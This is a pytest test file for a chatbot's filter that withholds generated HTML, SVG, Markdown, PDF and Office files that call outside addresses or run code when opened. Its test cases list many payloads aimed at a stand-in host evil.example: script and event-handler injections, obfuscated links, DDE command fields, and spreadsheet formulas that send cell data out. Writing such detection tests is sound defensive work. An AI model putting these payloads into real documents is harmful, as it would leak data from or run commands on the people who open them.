"""Files that call an address, or run something, when somebody opens them: each way that is known is found."""

import io
import re
import zipfile
from collections.abc import Callable, Iterator, Sequence

import openpyxl
import pptx
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.chat.attachments import handed_over as rules
from bot.chat.attachments.outside_references import (
    PICTURE,
    POLICY,
    in_markdown,
    in_page,
    in_pdf,
    in_picture,
    in_style,
    in_xml,
    with_policy,
)
from bot.python.engine import RunFile
from bot.python.result_files import result_files
from tests.examples import examples, is_thorough
from tests.fakes import documents, pdfs
from tests.fakes.link_pieces import LINK_PIECES

EVIL = "https://evil.example/x"


@pytest.mark.parametrize(
    "page",
    [
        f'<img src="{EVIL}">',
        f"<img src={EVIL}>",
        f"<IMG\nSRC\n=\n'{EVIL}'>",
        '<img src="//evil.example/x">',
        '<img src="&#104;ttps://evil.example/x">',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        f'<img srcset="{EVIL} 2x">',
        f'<img/src="{EVIL}">',
        f"<script>fetch('{EVIL}')</script>",
        f'<script src="{EVIL}"></script>',
        "<!-- --><script>1</script>",
        "<!--><script>1</script>-->",
        "<title><script></title>",
        '<p onclick="x()">',
        "<p/onmouseover=x()>",
        '<svg onload="x()">',
        f'<svg><image href="{EVIL}"/></svg>',
        f'<svg><use xlink:href="{EVIL}"/></svg>',
        "<svg><foreignObject/></svg>",
        f'<iframe src="{EVIL}"></iframe>',
        f'<object data="{EVIL}">',
        f'<embed src="{EVIL}">',
        f'<link rel="stylesheet" href="{EVIL}">',
        f'<link rel="dns-prefetch" href="{EVIL}">',
        f'<base href="{EVIL}">',
        f'<meta http-equiv="refresh" content="0; url={EVIL}">',
        f'<video poster="{EVIL}">',
        f'<body background="{EVIL}">',
        f'<a href="{EVIL}" ping="{EVIL}">x</a>',
        '<a href="javascript:x()">x</a>',
        '<a href="&#106;avascript:x()">x</a>',
        f'<form action="{EVIL}">',
        f"<style>p {{ background: url({EVIL}) }}</style>",
        f"<style>p {{ background: url( '{EVIL}' ) }}</style>",
        f"<style>@import '{EVIL}';</style>",
        f"<style>p {{ background: \\75rl({EVIL}) }}</style>",
        f'<style>p {{ background: image-set("{EVIL}" 1x) }}',
        f'<p style="background: url({EVIL})">',
        f'<p style="background: u&#114;l({EVIL})">',
        f"<p style='list-style-image:URL(\"{EVIL}\")'>",
        f"<p style=background:url({EVIL})>",
        "<template><x></template>",
        "<math><mtext></mtext></math>",
        f"<?xml-stylesheet href='{EVIL}'?><x-y>",
    ],
)
def test_a_page_that_loads_or_runs_something_is_not_handed_over(page: str) -> None:
    assert in_page(page)
    for name in ("report.html", "report.HTM"):
        found = result_files([RunFile(name, f"<p>Sales</p>{page}".encode())])
        assert not found.files
        assert "save it again without" in found.left_out[0]


TABLE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Sales</title>
<style>table { border: 1px solid #ccc } td:hover { color: rgb(1, 2, 3) }</style></head>
<body><!-- made by code --><h1 style="color: red">Sales on time = 5 &lt; 6</h1>
<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th></tr></thead></table>
<img src="data:image/png;base64,iVBORw0KGgo=" alt="a chart"><a href="https://example.org/">source</a>
<a href="#top">up</a> <svg viewBox="0 0 9 9"><path d="M0 0"/><rect fill="url(#a)"/></svg></body></html>"""


def test_a_quiet_page_is_handed_over_with_a_policy_that_forbids_the_rest() -> None:
    (file,) = result_files([RunFile("sales.html", TABLE.encode())]).files
    assert file.data.decode() == f"<!DOCTYPE html>\n{POLICY}{TABLE.partition(chr(10))[2]}"
    assert with_policy("<p>x").startswith(POLICY)
    assert 'http-equiv="x-dns-prefetch-control" content="off"' in POLICY, "else a link is looked up that nobody clicks"


@given(st.text(max_size=200))
def test_checking_ends_for_any_text(text: str) -> None:
    for check in (in_page, in_picture, in_xml, in_markdown, in_style):
        assert isinstance(check(text), str)
    assert isinstance(in_pdf(text.encode(errors="replace")), str)


@pytest.mark.slow
@pytest.mark.parametrize(
    "piece",
    [
        *("<", "<a ", "<style>", "<!--", "style='", "![", "![a](", "[a]: ", "url(", " on", "/#4", "]: >", "](<  "),
        *("]:\n", "<p\n\n", "<pre", "<a on", "<a src=", "&#0", "&#x", "\\\\", "]:a", "](a"),
    ],
)
def test_checking_takes_linear_time(piece: str) -> None:
    text = piece * ((2_000_000 if is_thorough() else 200_000) // len(piece))
    for check in (in_page, in_markdown, in_style):
        check(text)
    in_pdf(text.encode())


SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


@pytest.mark.parametrize(
    "inside",
    [
        f'<image href="{EVIL}"/>',
        f'<image xlink:href="{EVIL}"/>',
        '<image href="data:image/svg+xml;base64,PHN2Zz4="/>',
        f'<use xlink:href="{EVIL}#x"/>',
        "<script>x()</script>",
        '<x:script xmlns:x="http://www.w3.org/2000/svg"/>',
        '<dc:script xmlns:dc="http://www.w3.org/1999/xhtml"/>',
        '<g onload="x()"/>',
        "<foreignObject/>",
        f'<feImage href="{EVIL}"/>',
        f'<a><animate attributeName="href" to="{EVIL}"/></a>',
        f'<set attributeName="href" to="{EVIL}"/>',
        '<a href="javascript:x()"/>',
        f"<style>@import url({EVIL});</style>",
        f'<style><![CDATA[ path {{ fill: url("{EVIL}#a") }} ]]></style>',
        f'<path style="fill: url({EVIL}#a)"/>',
        f'<path fill="url({EVIL}#a)"/>',
        f'<path cursor="url(&#104;ttps:{EVIL})"/>',
        f'<g xml:base="{EVIL}"/>',
        "<unclosed>",
    ],
)
def test_a_picture_of_shapes_that_loads_or_runs_something_is_not_handed_over(inside: str) -> None:
    assert in_picture(f"<svg {SVG}>{inside}</svg>")


@pytest.mark.parametrize(
    "head",
    [
        f'<?xml-stylesheet href="{EVIL}"?>',
        '<!DOCTYPE svg [<!ENTITY x "y">]>',
        '<?xml version="1.0" encoding="iso-2022-jp"?>',
    ],
)
def test_what_stands_before_a_picture_counts_too(head: str) -> None:
    assert in_picture(f"{head}<svg {SVG}/>")


def test_a_picture_as_libraries_write_it_is_handed_over() -> None:
    chart = f"""<?xml version="1.0" encoding="utf-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg {SVG} width="9pt" version="1.1"><metadata><rdf:RDF xmlns:dc="http://purl.org/dc/elements/1.1/"
xmlns:cc="http://creativecommons.org/ns#" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><cc:Work>
<dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/></cc:Work></rdf:RDF></metadata>
<defs><style type="text/css">*{{stroke-linejoin: round; stroke-linecap: butt}}</style></defs>
<g id="a"><path d="M 0 0" clip-path="url(#p1)" style="fill: none"/><use xlink:href="#m1" x="3"/></g>
<image xlink:href="data:image/png;base64,
iVBORw0KGgo=" transform="scale(1 -1)"/><a href="https://example.org"><text>source</text></a></svg>"""
    assert in_picture(chart) == ""
    (file,) = result_files([RunFile("chart.svg", chart.encode())]).files
    assert file.media_type == "image/svg+xml"


@pytest.mark.parametrize(
    "text",
    [
        '<a><h:script xmlns:h="http://www.w3.org/1999/xhtml">x()</h:script></a>',
        '<h:p xmlns:h="http://www.w3.org/1999/xht&#109;l"/>',
        f"<svg {SVG}/>",
        f'<?xml-stylesheet type="text/xsl" href="{EVIL}"?><a/>',
        '<?mso-application progid="Excel.Sheet"?><a/>',
        f'<!DOCTYPE a SYSTEM "{EVIL}"><a/>',
        '<h:script xmlns:h="http://www.w3.org/1999/xhtml">x()</h:script><unclosed>',
    ],
)
def test_xml_that_is_shown_as_a_page_or_opened_as_a_document_is_not_handed_over(text: str) -> None:
    assert in_xml(text)
    assert not result_files([RunFile("a.xml", text.encode())]).files


def test_xml_that_is_data_is_handed_over() -> None:
    assert in_xml('<?xml version="1.0"?>\n<sales xmlns="urn:x"><month sum="3">July</month></sales>') == ""


@pytest.mark.parametrize(
    "text",
    [
        f"![x]({EVIL})",
        f"![x](<{EVIL}>)",
        "![x](//evil.example)",
        f"![x][1]\n\n[1]: {EVIL}",
        f'<img src="{EVIL}">',
        "<svg>",
        "![x](https:/evil.example/x)",
        "![x](https:evil.example/x)",
        "![x](/\\evil.example/x)",
        r"![x](\\\\evil.example\x)",
        r"![x](https\://evil.example/x)",
        "![x](&#104;ttps://evil.example/x)",
        "![x](https&colon;&sol;&sol;evil.example/x)",
        "![x](ht&Tab;tps://evil.example/x)",
        "![x](<ht\ttps://evil.example/x>)",
        f"![x]({' ' * 20}{EVIL})",
        "![x](file:/evil/x)",
        f"> ![x](\n> {EVIL})",
        f"![x][y]\n\n> [y]: {EVIL}",
        f"![x][y]\n\n> [y]:\n> {EVIL}",
        f"![x][y]\n\n1. - [y]: {EVIL}",
        f"![x][y]\n\n[y]:\n{' ' * 20}{EVIL}",
        f"![x][a b]\n\n[a\nb]: {EVIL}",
        f"![x][a\\]b]\n\n[a\\]b]: {EVIL}",
        f"<p style='background: url({EVIL})'>",
        f"<p title='>' style='background: url({EVIL})'>",
        f"<p a\"b title='>' style='background: url({EVIL})'>",
        f"<pre title='\n\n' style='background: url({EVIL})'>",
        f"<th background={EVIL}>",
        "<details open ontoggle='x()'>",
    ],
)
def test_notes_that_load_pictures_are_not_handed_over(text: str) -> None:
    assert in_markdown(f"# Sales\n\n{text}\n")


NOTES = st.lists(
    st.sampled_from(
        [
            *LINK_PIECES,
            *("![", "```"),
            *("https://", "https:", "//", "&colon;", "&#104;ttps:", "&#x2f;", "&Tab;", "\t", "\n> ", "> ", "- ", "1. "),
            *("](\n> ", "](\n  ", "![a][1]", "![1]", "[1]: ", "[1]:\n", "![a](https:", "](<https:", "    ", EVIL),
        ]
    ),
    max_size=14,
).map("".join)
READER = MarkdownIt("commonmark")
LEADS_OUT = re.compile(r"[a-z][a-z\d+.-]*:[^%]|//", re.IGNORECASE)


def pictures(tokens: Sequence[Token]) -> Iterator[str]:
    for token in tokens:
        if token.type == "image":
            yield str(token.attrGet("src"))
        yield from pictures(token.children or [])


@settings(max_examples=examples(500))
@given(NOTES)
@example(f"![x][1]\n\n> [1]:\n> {EVIL}")
@example(f"> ![x](\n> {EVIL})")
def test_whatever_notes_say_no_picture_is_loaded_from_elsewhere(text: str) -> None:
    try:
        shown = [*pictures(READER.parse(text))]
    except IndexError:  # a fault of this parser, of HTML at the end of a list
        return
    if any(map(LEADS_OUT.match, shown)):
        assert in_markdown(text) == PICTURE


def test_quiet_notes_are_handed_over() -> None:
    assert in_markdown(f"# Sales\n\n[source]({EVIL}), `List<String>`, a < b, ![x](chart.png)\n\n| a |\n|---|\n") == ""
    assert (
        in_markdown('![x](data:image/png;base64,aGk=)\n\n[^1]: Note: as of May\n\n<a href="b.md">b</a>, <b>c</b>\n')
        == ""
    )
    assert in_markdown(f"Write to [us](mailto:a@b.example), or see [y].\n\n[y]: {EVIL}\n") == ""


@pytest.mark.parametrize(
    "name",
    [b"/OpenAction", b"/JS", b"/J#61vaScript", b"/AA", b"/Launch", b"/ObjStm", b"/EmbeddedFile", b"/URL", b"/OPI"],
)
def test_a_pdf_that_acts_or_could_hide_it_is_not_handed_over(name: bytes) -> None:
    data = pdfs.pdf("boats").replace(b"/Type /Catalog", b"/Type /Catalog " + name + b" 1 0 R", 1)
    assert in_pdf(data) or name not in data
    assert name in data
    assert not result_files([RunFile("a.pdf", data)]).files


def test_a_plain_pdf_is_handed_over() -> None:
    assert in_pdf(pdfs.pdf("boats")) == ""


def changed(document: bytes, parts: dict[str, str], add: str = "") -> bytes:
    """A document with these parts, added or in the place of its own; `add`: put before the end of its main part."""
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as source, zipfile.ZipFile(output, "w") as target:
        for entry in source.infolist():
            content = source.read(entry)
            if entry.filename in {"word/document.xml", "xl/worksheets/sheet1.xml"}:
                content = content.replace(b"</w:body>", add.encode() + b"</w:body>")
                content = content.replace(b"</worksheet>", add.encode() + b"</worksheet>")
            if entry.filename not in parts:
                target.writestr(entry.filename, content)
        for name, content in parts.items():
            target.writestr(name, content)
    return output.getvalue()


def workbook(cell: str | int = 3, link: str = "") -> bytes:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet["A1"] = cell
    if link:
        sheet["A2"] = "source"
        sheet["A2"].hyperlink = link
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def slides() -> bytes:
    output = io.BytesIO()
    pptx.Presentation().save(output)
    return output.getvalue()


DOCX = documents.docx(documents.paragraph("It floats."))
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relation(kind: str, target: str = EVIL, mode: str = ' TargetMode="External"') -> dict[str, str]:
    return {
        "word/_rels/document.xml.rels": RELS.format(
            f'<Relationship Id="r9" Type="{KIND}{kind}" Target="{target}"{mode}/>'
        )
    }


@pytest.mark.parametrize(
    ("name", "data"),
    [
        *(
            ("a.docx", changed(DOCX, relation(kind)))
            for kind in (
                "image",
                "attachedTemplate",
                "oleObject",
                "frame",
                "subDocument",
                "aFChunk",
                "video",
                "settings",
            )
        ),
        ("a.docx", changed(DOCX, relation("hyperlink", "file://evil/share"))),
        ("a.docx", changed(DOCX, relation("hyperlink", "\\\\evil\\share"))),
        ("a.docx", changed(DOCX, relation("image", EVIL, ""))),
        ("a.docx", changed(DOCX, relation("image", EVIL, ' TargetMode="&#69;xternal"'))),
        ("a.docx", changed(DOCX, relation("image", "a>b.example", " TargetMode='External'"))),
        ("a.docx", changed(DOCX, {"word/embeddings/oleObject1.bin": "x"})),
        ("a.docx", changed(DOCX, {"word/page.html": "<p>"})),
        ("a.docx", changed(DOCX, {"word/media/x.svg": "<svg/>"})),
        ("a.docx", changed(DOCX, {"word/activeX/activeX1.xml": "<a/>"})),
        ("a.docx", changed(DOCX, {}, '<w:instrText> DDEAUTO c:\\\\cmd "/c calc" </w:instrText>')),
        ("a.docx", changed(DOCX, {}, "<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>")),
        ("a.docx", changed(DOCX, {}, f'<w:instrText>INCLUDEPICTURE "{EVIL}"</w:instrText>')),
        ("a.docx", changed(DOCX, {}, f"<w:fldSimple w:instr='INCLUDETEXT \"{EVIL}\"'/>")),
        ("a.docx", changed(DOCX, {}, "<w:fldSimple w:instr='LINK Excel.Sheet x'/>")),
        ("a.docx", changed(DOCX, {"word/vml.vml": f'<v:imagedata xmlns:v="urn:v" src="{EVIL}"/>'})),
        ("a.docx", changed(DOCX, {"word/altChunk.xml": '<w:altChunk xmlns:w="urn:w"/>'})),
        *(
            ("a.xlsx", workbook(formula))
            for formula in (
                f'=WEBSERVICE("{EVIL}")',
                f'=IMAGE("{EVIL}?"&A2)',
                f'=_xlfn.IMAGE("{EVIL}")',
                f'=HYPERLINK("{EVIL}?"&A2,"details")',
                "=cmd|'/c calc'!A1",
                "=[1]Sheet1!A1",
                "='\\\\evil\\share\\[x.xlsx]a'!A1",
                '=RTD("x","y","z")',
                '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)',
                '=IMPORTDATA("https:/"&"/evil.example/"&A2)',
                '=importrange(A2,"a")',
                '=DDE("soffice",A2,"a")',
            )
        ),
        ("a.xlsx", workbook(link="file://evil/share")),
        ("a.xlsx", changed(workbook(), {"xl/externalLinks/externalLink1.xml": "<a/>"})),
        ("a.xlsx", changed(workbook(), {"xl/connections.xml": "<a/>"})),
        ("a.xlsx", changed(workbook(), {}, "<ddeLink/>")),
        ("a.xlsx", changed(workbook(), {"xl/richData/x.xml": "<webImagesSrd><webImageSrd/></webImagesSrd>"})),
        ("a.pptx", changed(slides(), {"ppt/embeddings/x.xlsx": "x"})),
        ("a.pptx", changed(slides(), {"ppt/slides/s.xml": '<a action="ppaction://program"/>'})),
    ],
)
def test_a_document_that_calls_something_when_it_is_opened_is_not_handed_over(name: str, data: bytes) -> None:
    found = result_files([RunFile(name, data)])
    assert not found.files
    assert "save it again without" in found.left_out[0]


@pytest.mark.parametrize(
    "data",
    [
        changed(DOCX, {"word/extra.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}),
        changed(DOCX, {"word/extra.xml": "<a>"}),
        changed(DOCX, {"WORD/extra.xml": "<a/>", "word/extra.xml": "<a/>"}),
    ],
)
def test_a_document_whose_parts_cannot_all_be_checked_is_not_handed_over(data: bytes) -> None:
    assert result_files([RunFile("a.docx", data)]).left_out == (f"a.docx: {rules.BROKEN}",)


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("a.xlsx", workbook),
        ("a.xlsx", lambda: workbook('=SUM(B1:B3)&" | "&B4')),
        ("a.xlsx", lambda: workbook('=IF(A2>1,"x",Sheet1!$B$2)', link="https://example.org/a")),
        ("a.docx", lambda: DOCX),
        (
            "a.docx",
            lambda: changed(DOCX, relation("hyperlink"), '<w:instrText>HYPERLINK "https://a.example"</w:instrText>'),
        ),
        ("a.docx", lambda: changed(DOCX, {}, "<w:instrText> PAGE </w:instrText><w:fldSimple w:instr='TOC \\o'/>")),
        ("a.pptx", slides),
    ],
)
def test_quiet_documents_are_handed_over(name: str, make: Callable[[], bytes]) -> None:
    data = make()
    found = result_files([RunFile(name, data)])
    assert found.left_out == ()
    assert found.files[0].data == data
